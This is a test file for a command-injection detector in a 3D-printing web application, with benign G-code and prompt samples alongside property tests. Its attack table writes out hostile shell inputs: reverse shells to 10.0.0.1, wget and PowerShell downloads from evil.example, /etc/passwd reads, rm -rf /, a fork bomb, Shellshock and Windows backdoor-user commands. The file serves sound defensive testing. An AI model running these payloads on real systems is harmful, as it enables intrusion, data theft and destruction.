import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { inspectorFor } from "../support/detector";
import { needsShellReading } from "@/lib/security/detectors/cmd-gate";
import { mailInjection, protocolLineAt } from "@/lib/security/detectors/cmd-mail";
import { commandInjectionDetector, scanForm, shellReadings } from "@/lib/security/detectors/command-injection";
import type { LocationKind, ThreatLevel } from "@/lib/security/sanitizer/types";

const inspect = inspectorFor(commandInjectionDetector);

type Row = [input: string, rule: string, level: ThreatLevel];

const ATTACKS: Record<string, Row[]> = {
  "a command after a separator": [
    ["127.0.0.1; cat /etc/passwd", "cmdi.chained-command", "high"],
    ["x | whoami", "cmdi.chained-command", "high"],
    ["a && id", "cmdi.chained-command", "high"],
    ["foo || ls -la", "cmdi.chained-command", "high"],
    ["name\nuname -a", "cmdi.chained-command", "high"],
    ["1; sleep 5", "cmdi.chained-command", "high"],
    [";id #", "cmdi.chained-command", "high"],
    ["127.0.0.1 & ping -n 3 127.0.0.1", "cmdi.chained-command", "high"],
    ["';htop'", "cmdi.chained-command", "high"],
    [";'curl' http://evil.example", "cmdi.chained-command", "high"],
    ["time; ansible-playbook site.yml", "cmdi.chained-command", "high"],
  ],
  "a command at the start with shell arguments": [
    ["cat /etc/passwd", "cmdi.command", "high"],
    ["wget http://evil.example/x.sh -O /tmp/x", "cmdi.command", "high"],
    ["ls -l /etc", "cmdi.command", "high"],
    ["time sh -c whoami", "cmdi.command", "high"],
    ["whoami", "cmdi.command", "high"],
    ["printf dW5hbWUgLWE=|base64 -d|sh", "cmdi.command", "high"],
  ],
  "command substitution": [
    ["$(whoami)", "cmdi.substitution", "high"],
    ["`uname -a`", "cmdi.substitution", "high"],
    ["test`id`", "cmdi.substitution", "high"],
    ["file=<(cat /etc/passwd)", "cmdi.substitution", "high"],
    ["${jndi:ldap://evil.example/a}", "cmdi.parameter-expansion", "high"],
  ],
  "obfuscated command words": [
    ["c'a't /etc/passwd", "cmdi.obfuscated-command", "high"],
    ["c\\at /etc/passwd", "cmdi.obfuscated-command", "high"],
    ["x;ca$@t /etc/passwd", "cmdi.obfuscated-command", "high"],
    ["x;cat${IFS}/etc/passwd", "cmdi.obfuscated-command", "high"],
    ["who$()ami", "cmdi.obfuscated-command", "high"],
    ['""p""y""t""h""o""n"" -c "import os"', "cmdi.obfuscated-command", "high"],
    ["{cat,/etc/passwd}", "cmdi.obfuscated-command", "high"],
    ["x;/???/c?t /etc/passwd", "cmdi.glob-path", "high"],
    ["/etc/pa[s]swd", "cmdi.glob-path", "high"],
    ["w^h^o^a^m^i", "cmdi.obfuscated-command", "high"],
  ],
  "variables holding the command": [
    ["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "cmdi.chained-command", "high"],
    ["a=nc&&$a -nlvp 555", "cmdi.chained-command", "high"],
    ["CMD='cat /etc/passwd';$CMD", "cmdi.chained-command", "high"],
    ["x;CMD=$'ping -i 30 127.0.0.1';$CMD", "cmdi.chained-command", "high"],
    ["$SHELL -c 'echo hi'", "cmdi.command", "high"],
  ],
  "decisive shapes": [
    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cmdi.reverse-shell", "critical"],
    ["; nc -e /bin/sh 10.0.0.1 4444", "cmdi.reverse-shell", "critical"],
    ["; rm -rf /", "cmdi.destructive", "critical"],
    [":(){ :|:& };:", "cmdi.fork-bomb", "critical"],
    ["() { :; }; /bin/bash -c id", "cmdi.shellshock", "critical"],
    ['<!--#exec cmd="id"-->', "cmdi.server-side-include", "high"],
    ["1;.shell id", "cmdi.sqlite-dot-command", "high"],
    ["alias ls='rm -rf ~'", "cmdi.alias", "high"],
    ["~+", "cmdi.tilde-expansion", "medium"],
    ["!-1!-2", "cmdi.history-expansion", "medium"],
  ],
  "a language's command-execution call": [
    [";system('id')", "cmdi.code-exec-call", "high"],
    ["shell_exec($_GET['c'])", "cmdi.code-exec-call", "high"],
    ['__import__("os").popen("id") or os.system("cat /etc/hosts")', "cmdi.code-exec-call", "high"],
    ["require('child_process').execSync(`id`)", "cmdi.code-exec-call", "high"],
  ],
  "Windows cmd.exe and PowerShell": [
    ["& net user hacker P@ss /add", "cmdi.chained-command", "high"],
    ['; reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f', "cmdi.chained-command", "high"],
    ["| reg query HKCU\\Software", "cmdi.chained-command", "high"],
    ["x | type C:\\windows\\win.ini", "cmdi.chained-command", "high"],
    ["%COMSPEC% /c whoami", "cmdi.command", "high"],
    ["cmd.exe /c dir", "cmdi.command", "high"],
    ["for /f %i in ('whoami') do echo %i", "cmdi.windows-batch", "high"],
    ["IF EXIST C:\\boot.ini ECHO found", "cmdi.windows-batch", "high"],
    ["if %ERRORLEVEL% NEQ 0 goto fail", "cmdi.windows-batch", "high"],
    ["powershell -enc SQBFAFgA", "cmdi.command", "high"],
    ["Invoke-WebRequest http://evil.example/x.ps1", "cmdi.command", "high"],
    ["IEX(New-Object Net.WebClient).DownloadString('http://x')", "cmdi.command", "high"],
  ],
  "mail-protocol commands after a line break": [
    ["x\r\nMAIL FROM:<a@b.example>", "cmdi.mail-injection", "medium"],
    ["x\r\nRCPT TO:<victim@b.example>", "cmdi.mail-injection", "medium"],
    ["x\r\na001 LOGIN admin secret", "cmdi.mail-injection", "medium"],
    ["x\r\nRETR 1", "cmdi.mail-injection", "medium"],
  ],
};

/** What a 3D-print system really receives: G-code, Klipper config and macros, slicer templates, prompts, names. */
const BENIGN: Record<string, string[]> = {
  "G-code and Klipper": [
    "M104 S200 ; set hotend temperature",
    "G1 X10 Y20 F3000",
    "G28 ; home all axes",
    "M117 Printing... ; display",
    "SET_INPUT_SHAPER SHAPER_TYPE_X=<carriage_x_shaper> SHAPER_FREQ_X=<carriage_x_freq>",
    "{% set x = params.X|default(0)|float %}",
    '{% if printer.toolhead.homed_axes != "xyz" %}',
    "{% for i in range(params.T | int) %}",
    "{% if EXTRUDERS_ENABLED_COUNT|int == 2 %}",
    'RESPOND MSG="Homing..."',
    "serial: /dev/serial/by-id/usb-Klipper_stm32-if00",
    "# avrdude -p atmega2560 -c wiring -P /dev/ttyUSB0 -D -U flash:w:klipper.elf.hex:i",
    "SAVE_VARIABLE VARIABLE=last_temp VALUE={params.TEMP|default(200)|int}",
    "M104 S0                        ; turn off hotend while waiting for bed to get to temp",
    "#    M163 S1 P0 ; set extruder 1",
    "G28\nM104 S200\nHELP",
    "G4 P5000 ; sleep 5 s",
    ";TIME:3600",
    "; end_gcode = G1 E-1 F2100 ; retract\\nG92 E0\\nM104 S0 ; turn off",
  ],
  "slicer templates and settings": [
    "{if nozzle_diameter[0]==0.4}0.027{endif}",
    "layer_height = 0.2\nfill_density = 15%\nfill_pattern = gyroid",
    "ironing = 1\nironing_type = top\nironing_flowrate = 15%",
    '{"command": "select", "print": true}',
  ],
  "file names": [
    "bracket v2 (final).stl",
    '"%1%" preset',
    "models/parts/hinge-left.3mf",
    "Benchy_0.4n_PLA_1h23m.gcode",
    "cat.stl",
  ],
  "prompts": [
    "the cooling system (fans) runs after the print",
    "Use the exec command (see the docs) to run a macro",
    "reg add a comment to the print",
    "Reg: add HKLM notes later",
    "print a cat figurine; rm the supports after",
    "tolerance & fit | 0.2 mm",
    "echo the first layer",
    "Make it more rigid; time is not an issue",
    "Set the fan to 100%; wait for the bed",
    "kill the print if it fails; sleep mode after",
    "Head to the settings page; tail of the part is warped",
    "Sort the parts by size & print the small ones first",
    "I'd like PETG; it's stronger",
    "at 5:00 start the print",
    "Print a sign that says \"rm -rf\" as a joke",
    "Ping 192.168.1.50 does not answer, is the printer offline?",
    "Tube OD 20; ID 16",
    "Cat shadow box with LED strip",
    "Wi-Fi & SSH access for the printer",
    "Printer name & ID",
    "What does `set` do in a macro?",
    "G92 Z0 ; set Z=0 here",
    "startup & shutdown",
    "Backup & Restore",
    "Curl the filament end before loading",
    "Bash the old supports off with pliers",
    "If not defined, use the default profile",
    "Price is $5 each; $3 for the small one",
    "temperature > 200 and < 240",
    "Wait for acknowledging <code>ok</code> for non-GCODE commands",
    "Make door signs for Room 236 / Room 400 (raised letters)",
    "The quick brown fox; \"jumped over the lazy dog\"",
  ],
  "multi-line notes (a textarea posts CRLF)": [
    "Steps:\n1 select the model\n2 copy it\n3 delete the old one",
    "Notes:\r\nMail from: Bob\r\nthanks",
    "Parts:\r\nA1 copy\r\nB2 delete",
  ],
  "headers a browser sends": [
    "Mozilla/5.0 (Linux; Android 14; PGT-N19 Build/HONORPGT-N49; wv) AppleWebKit/537.36 (KHTML, like Gecko)",
    "curl/7.81.0",
    "wget",
    "https://www.example.com/page?param=test+test",
  ],
};

describe("command-injection detector", () => {
  for (const [technique, rows] of Object.entries(ATTACKS)) {
    describe(`detects ${technique}`, () => {
      it.each(rows)("%s → %s (%s)", (input, rule, level) => {
        const hit = inspect(input);
        expect(hit).not.toBeNull();
        expect(hit).toMatchObject({ rule, level });
      });
    });
  }

  for (const [source, lines] of Object.entries(BENIGN)) {
    describe(`passes ${source}`, () => {
      it.each(lines)("%s", (line) => {
        expect(inspect(line)).toBeNull();
        expect(inspect(line, "query", "query.q")).toBeNull();
      });
    });
  }

  it("reads `+` as a space in values no form decoder saw (JSON, headers)", () => {
    expect(inspect("www.example.com;c$?at+/etc/passwd", "header", "header.referer")).toMatchObject({ rule: "cmdi.obfuscated-command" });
  });

  it("treats each parameter of a URL in a header as a value of its own", () => {
    expect(inspect("https://example.com/?args=env --version", "header", "header.referer")).toMatchObject({ rule: "cmdi.command" });
  });

  it("flags uploads named like server configuration or code", () => {
    const value = { location: "body.file.filename", kind: "body" as const, raw: "wp-config.php", forms: ["wp-config.php"] };
    expect(commandInjectionDetector.detect(value)).toMatchObject({ rule: "cmdi.restricted-upload", level: "high" });
    expect(commandInjectionDetector.detect({ ...value, raw: "benchy.3mf", forms: ["benchy.3mf"] })).toBeNull();
  });

  it("returns a verdict for any string, never an exception", () => {
    const alphabet = fc.constantFrom(..."ab;|&$(){}[]`'\"\\<>!~^%*?=/.-+#\n\r\t cat id ls sh".split(""));
    fc.assert(
      fc.property(fc.string({ unit: alphabet, maxLength: 300 }), (s) => {
        const hit = inspect(s);
        return hit === null || (hit.rule.startsWith("cmdi.") && ["low", "medium", "high", "critical"].includes(hit.level));
      }),
      { numRuns: 500 },
    );
  });

  it("stays linear on 1 MiB adversarial inputs", () => {
    const MiB = 1 << 20;
    for (const unit of [";a ", "$(", "${", "`", "<a ", "f(){ x ", "\\n", "\r\n", "/???/??? ", "'\"", "+", "$a", "[", "a"]) {
      const input = unit.repeat(Math.ceil(MiB / unit.length)).slice(0, MiB);
      const started = performance.now();
      inspect(input);
      // Generous for slow CI machines; quadratic behaviour would take minutes.
      expect(performance.now() - started).toBeLessThan(3000);
    }
  });

  it("pre-gate: clears only values the full reading would not flag", () => {
    const words = ["cat", "whoami", "sudo", "ls", "G1", "M104", "X10", "/bin/sh", "/etc/passwd", "cmd.exe", "C:/Windows/System32/cmd.exe", "python3.10", "e2fsck", "c99", "ansible-playbook", "dir/s", "curl", "http://x.example/a", "/dev/tcp/1.2.3.4/80", "print", "-la", "+", " ", "  ", "a", "7z", "Wi-Fi", "ID", "ping", "node", "20", ".shell", "passwd"];
    const valueArb = fc.array(fc.constantFrom(...words), { minLength: 1, maxLength: 6 }).map((parts) => parts.join(" "));
    fc.assert(
      fc.property(valueArb, fc.constantFrom<LocationKind>("body", "query", "header", "path"), (value, kind) => {
        if (!needsShellReading(value)) expect(scanForm(value, kind)).toBeNull();
      }),
      { numRuns: 2000 },
    );
    for (const attack of ["whoami", "cat /etc/passwd", "cat+/etc/passwd", "/bin/cat /etc/passwd", "sudo ls -la /", "  WHOAMI"]) expect(needsShellReading(attack)).toBe(true);
    for (const benign of ["G1 X10 Y20 F3000", "bracket", "voron-24-01", "normal", "PETG"]) expect(needsShellReading(benign)).toBe(false);
  });

  it("a form without a letter, `$`, `/`, `(` or non-ASCII holds nothing for the shell reading", () => {
    // Every ASCII character MAY_NAME_COMMAND lets through, in runs that mimic operators and padding.
    const quiet = Array.from({ length: 128 }, (_, c) => String.fromCharCode(c)).filter((ch) => !/[A-Za-z$/(]/.test(ch));
    const unit = fc.oneof(fc.constantFrom(...quiet), fc.constantFrom("&&", "||", ";;", "<<<", ">&", "\\n", "%%", "{,}", "[!]", "~+", "!-1", "0x", "127.0.0.1", ":|:&", "`", "\r\n"));
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 40 }).map((parts) => parts.join("")), fc.constantFrom<LocationKind>("body", "query", "header", "path", "cookie"), (value, kind) => {
        expect(shellReadings(value, kind)).toBeNull();
      }),
      { numRuns: 20000 },
    );
    // A letter, `$` or `/` with punctuation alone is enough for a finding (`(` is let through for `<(…)`).
    for (const attack of ["x;id", "${#}", "$(:)", "$((1+1))", "/???/??t /???/p??s??"]) expect(scanForm(attack, "body")).not.toBeNull();
  });

  it("inert words (quotes only, a lone `#`, a name closed by quotes) read exactly as before", () => {
    const at = (s: string) => commandInjectionDetector.detect({ location: "body.x", kind: "body", raw: s, forms: [s] })?.rule ?? null;
    expect(at("$('')")).toBe("cmdi.substitution");
    expect(at("x$(\"\")")).toBe("cmdi.substitution");
    expect(at("a;#;whoami")).toBe("cmdi.chained-command");
    expect(at("x;'';id")).toBe("cmdi.chained-command");
    expect(at("x;'w'h'o'a'm'i'")).toBe("cmdi.obfuscated-command");
    expect(at("x;%COMSPEC% /c dir")).toBe("cmdi.chained-command");
    for (const benign of [";''", "&#&#", "v'<\nv'<", "'\"`'\"`", "%27%3C\n%27%3C", "<<<<<<"]) expect(at(benign)).toBeNull();
  });

  it("pre-gate: parentheses force the full reading only where a command could stand", () => {
    const words = ["(", ")", "((", "()", "cat", "whoami", "sudo", "time", "ls", "id", "ID", "at", "for", "if", "alias", "sleep", "5", "node", "+node", "+", "bracket", "final", ".stl", "/bin/ls", "/etc/passwd", "iex", "x", "-la", "python3.10", "/", "2.3", "print-frontend/2.3"];
    const glue = fc.constantFrom("", " ", "  ", "+");
    const valueArb = fc.array(fc.tuple(fc.constantFrom(...words), glue), { minLength: 1, maxLength: 8 }).map((parts) => parts.map(([w, g]) => w + g).join(""));
    fc.assert(
      fc.property(valueArb, fc.constantFrom<LocationKind>("body", "query", "header", "path"), (value, kind) => {
        if (!needsShellReading(value)) expect(scanForm(value, kind)).toBeNull();
      }),
      { numRuns: 5000 },
    );
    for (const attack of ["x (whoami)", "a (cat /etc/passwd)", "iex(x)", "(sudo ls)", "x (/bin/ls)", "x (sleep 5)", "x (for)", "x (cat+/etc/passwd)"]) expect(needsShellReading(attack)).toBe(true);
    for (const benign of ["bracket v2 (final).stl", "print-frontend/2.3 (+node)", "Wi-Fi (ID)", "part (2)"]) expect(needsShellReading(benign)).toBe(false);
  });

  it("pre-gate: separators force the full reading only where a command could follow", () => {
    const seps = [";", "&", "|", "&&", "||", ";;", "|&", " ; ", " & ", " | ", ";\t"];
    const words = [
      // plain prose and G-code words that are no command
      "set", "home", "union", "hotend", "temperature", "turn", "off", "G1", "M104", "S200", "X10", "Wi", "Fi", "SSH", "Name", "final", "a", "x",
      // commands of every tier and trait
      "whoami", "WHOAMI", "cat", "id", "ID", "ls", "sudo", "time", "nohup", "node", "ping", "sleep", "for", "if", "alias", "at", "set", "env", "nc", "iex", "wget", "sh", "python3.10", "cmd.exe", "7z",
      // paths, flags, numbers, hosts, globs and obfuscations
      "/bin/sh", "/etc/passwd", "C:/Windows/System32/cmd.exe", "-la", "-c", "5", "20", "2.3", "1.2.3.4", "http://x.example/a", "/dev/tcp/1.2.3.4/80", ".shell", "passwd",
      "w'h'oami", "wh\\oami", "$x", "/???/c?t", "{cat,/etc/passwd}", "c*t", "(", ")", "((", "()", "+", "+id", "cat+/etc/passwd", "",
    ];
    const part = fc.oneof(fc.constantFrom(...words), fc.constantFrom(...seps));
    const glue = fc.constantFrom("", " ", "  ", "+");
    const valueArb = fc.array(fc.tuple(part, glue), { minLength: 1, maxLength: 8 }).map((parts) => parts.map(([w, g]) => w + g).join(""));
    fc.assert(
      fc.property(valueArb, fc.constantFrom<LocationKind>("body", "query", "header", "path", "cookie"), (value, kind) => {
        if (!needsShellReading(value)) expect(scanForm(value, kind)).toBeNull();
      }),
      { numRuns: 8000 },
    );
    for (const attack of ["x;whoami", "a & id", "x|cat /etc/passwd", "x ; ls -la", "M104 S200 ; set hotend temperature", "a;;sudo ls", "x && time", "x;(whoami)", "(final;whoami)", "x;/bin/ls", "x;+id", "x; 20", "a & b|nc 1.2.3.4 80"]) {
      expect(needsShellReading(attack)).toBe(true);
    }
    for (const benign of ["G28 ; home all axes", "M104 S0 ; turn off hotend", "Wi-Fi & printer setup", "drop the brim & union the halves", "a || b", "x;", "x ; (final)"]) {
      expect(needsShellReading(benign)).toBe(false);
    }
  });

  it("mail injection: the native search for line starts finds what a look at every line finds", () => {
    // Every line after a break, in order, as mailInjection looked before it searched natively:
    // only a line whose first character (after one space) is a letter or digit can be a command.
    const everyLine = (s: string): string | null => {
      for (let at = s.indexOf("\n"); at >= 0; ) {
        const next = s.charCodeAt(at + 1) === 32 ? s.charCodeAt(at + 2) : s.charCodeAt(at + 1);
        const line = protocolLineAt(s, at);
        if (/[0-9A-Za-z]/.test(String.fromCharCode(next)) && line.command) return line.command;
        at = line.end < s.length ? line.end : -1;
      }
      return null;
    };
    const unit = fc.constantFrom("\n", "\r\n", " ", "  ", "x", "'<", "MAIL FROM:<a@b.example>", "RCPT TO:<v@b.example>", "a001 LOGIN admin secret", "RETR 1", "QUIT", "help", "G28 ; home");
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 40 }).map((units) => units.join("")), (s) => {
        expect(mailInjection(s)).toBe(everyLine(s));
      }),
      { numRuns: 3000 },
    );
  });
});
